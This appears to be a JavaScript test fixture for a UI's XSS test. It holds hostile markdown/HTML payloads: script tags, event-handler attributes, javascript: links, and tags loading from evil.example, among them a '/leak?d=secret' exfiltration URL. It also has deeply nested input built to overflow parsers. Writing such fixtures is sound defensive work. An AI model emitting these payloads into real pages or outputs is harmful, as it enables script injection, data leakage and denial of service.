// Hostile model output the XSS test streams: nothing in it may run,
// load from the network or navigate (tests/ui/xss.test.mjs).
export const XSS_PAYLOAD = [
  'Here are some payloads:',
  '',
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss=\'img\'">',
  '<img src="https://evil.example/leak?d=secret">',
  '[click me](javascript:window.__xss=\'link\')',
  '<a href="javascript:window.__xss=\'a\'">raw link</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg onload="window.__xss=\'svg\'"><foreignObject><img src="https://evil.example/fo"></foreignObject></svg>',
  '<p style="background:url(https://evil.example/bg)">styled</p>',
  '<form action="https://evil.example/f"><input name=a></form>',
  '![x](https://evil.example/x.png)',
  '<details open ontoggle="window.__xss=\'toggle\'">d</details>',
  '',
  'A [safe link](https://example.com/docs).',
].join('\n\n');

// Nesting that overflowed the parsers' stacks or stalled the page (security
// review N9): TeX braces 20,000 deep, block quotes 20,000 deep, a list 600
// levels deep; then a plain line that must still be shown
// (tests/ui/xss.test.mjs).
export const DEEP_PAYLOAD = [
  'Deep parts follow.',
  `$${'{'.repeat(20_000)}x${'}'.repeat(20_000)}$`,
  `${'>'.repeat(20_000)} quoted`,
  Array.from({ length: 600 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
  'After the deep parts.',
].join('\n\n');
